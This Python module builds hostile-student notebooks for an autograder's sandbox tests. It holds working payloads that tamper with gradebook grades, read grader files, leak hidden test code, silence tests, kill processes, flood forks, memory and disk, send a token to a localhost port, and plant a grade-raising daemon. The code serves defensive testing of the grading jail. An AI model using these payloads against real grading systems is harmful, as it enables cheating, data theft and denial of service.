"""The attacks of the hostile-student suite (test_hostile.py), written as a cheater would: code added
to an answer cell of the release, run only while the autograder executes the notebook
(``NBGRADER_EXECUTION``), so the notebook looks harmless when the student runs it.

Every attack first names its kernel (and every process it starts) with the suite's token through
``prctl(PR_SET_NAME)``, so the test can find anything that outlives grading, prints
``ATTACK-RAN <name>`` (proof that it ran), and prints what it achieved as ``RESULT <json>``.
"""

from __future__ import annotations

import copy
import textwrap
from dataclasses import dataclass

from nbformat.v4 import new_code_cell

from tinytorch_course.authoring.reference import nbgrader_meta, reference_submission

# Every attack starts with this: the trigger, the process naming and the report helper.
PRELUDE = """
import os
if os.environ.get("NBGRADER_EXECUTION"):
    import ctypes, json, sys
    def _mark():
        ctypes.CDLL(None).prctl(15, {token!r}.encode(), 0, 0, 0)
    def _report(**found):
        print("RESULT " + json.dumps(found), flush=True)
    _mark()
    print("ATTACK-RAN {name}", flush=True)
"""

SOLUTION_IMPORT = """
try:
    from tinytorch.olympics import (BenchmarkReport, SimpleMLP, generate_submission,
                                    submission_errors, validate_submission_schema)
    _report(imported=True)
except Exception as err:
    _report(imported=False, error=type(err).__name__)
"""

READ_FILES = """
import pathlib
targets = [pathlib.Path(p) for p in {targets!r}]
here = pathlib.Path.cwd()
for parent in [here, *here.parents]:
    targets += [parent / "src" / "20_capstone" / "20_capstone.py", parent / "gradebook.db"]
    try:
        targets += sorted(parent.glob("submitted/*/20_capstone/capstone.ipynb"))
    except OSError:
        pass
found = {{}}
for target in targets:
    try:
        found[str(target)] = len(target.read_bytes())
    except OSError:
        pass
try:
    listing = sorted(os.listdir({repo!r}))
except OSError:
    listing = None
_report(found=found, repo_listing=listing)
"""

# Writes stay within the suite's own course roots (and what walking up from the working folder
# reaches), so a broken jail cannot make the suite damage anything else on the machine.
GRADEBOOK_WRITES = """
import glob, pathlib, sqlite3
here = pathlib.Path.cwd()
bases = [here, *list(here.parents)[:3]] + [pathlib.Path(p) for p in {roots!r}]
dbs = set()
for base in bases:
    for depth in range(5):
        dbs.update(glob.glob(str(base.joinpath(*["*"] * depth, "*.db"))))
written = []
for db in sorted(dbs):
    try:
        con = sqlite3.connect(db, timeout=2)
        con.execute("UPDATE grade SET manual_score = 0")
        con.commit()
        con.close()
        written.append(db)
    except Exception:
        pass
_report(candidates=sorted(dbs), written=written)
"""

KILL_PARENT = """
import signal, time
parent = os.getppid()
_report(parent=parent)
try:
    os.kill(parent, signal.SIGKILL)
    outcome = "sent"
except OSError as err:
    outcome = type(err).__name__
time.sleep(1)
_report(kill=outcome, survived=True)
"""

# Refuses to run in the test's own PID namespace: without a jail it would kill every process of
# the machine the grader may signal. The test then fails on the report instead.
KILL_ALL = """
import signal, time
if os.readlink("/proc/self/ns/pid") == {host_pid_ns!r}:
    _report(refused="not in a PID namespace of its own")
else:
    me, killed = os.getpid(), []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            try:
                os.kill(int(name), signal.SIGKILL)
                killed.append(int(name))
            except OSError:
                pass
    time.sleep(1)
    _report(signalled=killed, survived=True)
"""

FORK_FLOOD = """
import time
children, error = 0, None
for _ in range({forks}):
    try:
        pid = os.fork()
    except OSError as err:
        error = type(err).__name__
        break
    if pid == 0:
        try:
            _mark()
            time.sleep(600)
        finally:
            os._exit(0)
    children += 1
_report(children=children, error=error)
"""

MEMORY_FLOOD = """
chunks, error = [], None
try:
    for _ in range({chunks}):
        chunks.append(bytearray(b"\\x01") * (64 << 20))
except MemoryError:
    error = "MemoryError"
_report(allocated_mib=64 * len(chunks), error=error)
del chunks
"""

DISK_FLOOD = """
import pathlib
block, written = b"\\0" * (8 << 20), {{}}
for folder in (pathlib.Path.cwd(), pathlib.Path("/tmp")):
    done, error = 0, None
    try:
        with open(folder / {flood_name!r}, "wb") as fh:
            for _ in range({blocks}):
                fh.write(block)
                fh.flush()
                done += len(block)
    except OSError as err:
        error = type(err).__name__
    written[str(folder)] = [done >> 20, error]
_report(written_mib=written)
"""

NETWORK = """
import socket
outcome = {{}}
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, {port}), timeout=3) as conn:
            conn.sendall(b"exfiltrated " + {token!r}.encode())
            outcome[host] = "sent"
    except OSError as err:
        outcome[host] = type(err).__name__
_report(outcome=outcome)
"""

# Double fork: the daemon belongs to no kernel, and for {daemon_s} s keeps trying to raise its
# own grade in every gradebook it can reach, so it acts after grading has ended too.
DAEMON = """
import glob, pathlib, sqlite3, time
first = os.fork()
if first == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _mark()
            mine = ("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT sn.id FROM "
                    "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                    "WHERE sa.student_id = ?)")
            deadline = time.time() + {daemon_s}
            while time.time() < deadline:
                for root in {roots!r}:
                    for db in glob.glob(root + "/*.db") + glob.glob(root + "/**/*.db", recursive=True):
                        try:
                            con = sqlite3.connect(db, timeout=1)
                            con.execute(mine, ({student!r},))
                            con.commit()
                            con.close()
                        except Exception:
                            pass
                time.sleep(0.5)
        finally:
            os._exit(0)
    os._exit(0)
os.waitpid(first, 0)
_report(daemon="started")
"""

EXFILTRATE = """
import html as _html
from IPython.display import HTML, JSON, display
_ip = get_ipython()
_ip.events.register("pre_run_cell", lambda info: print(info.raw_cell, flush=True))
def _leak(result):
    source = result.info.raw_cell
    display(HTML("<pre>" + _html.escape(source) + "</pre>"))
    display(JSON({{"source": source}}))
    print(repr(_ih[-1]))
_ip.events.register("post_run_cell", _leak)
_report(hooks="registered")
"""

# A cell of the student's own, last in the notebook: every hidden test has run by then.
EXFILTRATE_ERROR_CELL = """import os
if os.environ.get("NBGRADER_EXECUTION"):
    _asserts = [l.strip() for s in In for l in s.splitlines() if l.strip().startswith("assert")]
    raise type(_asserts[-1], (Exception,), {})("\\n".join(In))
"""

SLEEP_HOOK = """
import time
get_ipython().events.register("pre_run_cell", lambda info: time.sleep({sleep_s}))
_report(hooks="registered")
"""

# It sleeps between checks, so the graders beside it keep the cores: ignoring the interrupt is the
# attack (the jail's own tests keep a spinning one, in test_jail.py).
IGNORE_INTERRUPTS = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
_report(looping=True)
while True:
    time.sleep(0.05)
"""

# Tampering with its own kernel: every later cell (the restored tests included) is rewritten to
# `pass` before IPython compiles it, so no test can fail. The jail cannot see this; see the
# threat model in docs/architecture.md.
NO_OP_TESTS = """
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
_report(tests="silenced")
"""


@dataclass
class Attack:
    """One attacker: its attacks (code and the answer cells that get it) on top of a base notebook."""

    parts: tuple[tuple[str, tuple[str, ...]], ...]
    base: str  # "blank" (the release as is) or "perfect" (reference solutions)
    prepend: bool = False  # before the answer (a loop stops the cell) instead of after
    extra_cell: str | None = None  # a cell of the student's own, appended to the notebook


FIRST = ("simple-mlp",)
SOLUTION_CELLS = ("simple-mlp", "benchmark-report", "generate-submission", "validator")

# Attacks that only look around and report share one notebook (and the floods another), so the
# suite grades fewer notebooks; each reports under its own keys.
ATTACKS = {
    "h-snoop": Attack(
        (
            (SOLUTION_IMPORT, SOLUTION_CELLS),
            (READ_FILES, FIRST),
            (GRADEBOOK_WRITES, FIRST),
            (NETWORK, FIRST),
            (DAEMON, FIRST),
        ),
        "blank",
    ),
    "h-kill-parent": Attack(((KILL_PARENT, FIRST),), "blank"),
    "h-kill-all": Attack(((KILL_ALL, FIRST),), "blank"),
    "h-floods": Attack(((FORK_FLOOD, FIRST), (MEMORY_FLOOD, FIRST), (DISK_FLOOD, FIRST)), "blank"),
    "h-exfiltrate": Attack(((EXFILTRATE, FIRST),), "perfect", extra_cell=EXFILTRATE_ERROR_CELL),
    "h-sleep-hook": Attack(((SLEEP_HOOK, FIRST),), "perfect"),
    "h-no-op-tests": Attack(((NO_OP_TESTS, FIRST),), "blank"),
    "h-ignore-interrupts": Attack(((IGNORE_INTERRUPTS, ("generate-submission",)),), "perfect", prepend=True),
}


def attack_code(name: str, code: str, params: dict) -> str:
    """The code the attacker adds to a cell: the prelude and one attack, both run only while
    graded."""
    values = {"name": name, "student": name, **params}
    body = textwrap.indent(textwrap.dedent(code).format(**values), "    ")
    return PRELUDE.format(**values) + body


def attacker_notebook(name: str, attack: Attack, release, source, params: dict):
    """The attacker's submission: its base notebook with every attack added to its cells."""
    nb = copy.deepcopy(reference_submission(release, source) if attack.base == "perfect" else release)
    for code, cells in attack.parts:
        added = attack_code(name, code, params)
        for cell in nb.cells:
            if nbgrader_meta(cell).get("grade_id") in cells:
                cell.source = added + "\n" + cell.source if attack.prepend else cell.source + "\n" + added
    if attack.extra_cell:
        nb.cells.append(new_code_cell(attack.extra_cell))
    return nb
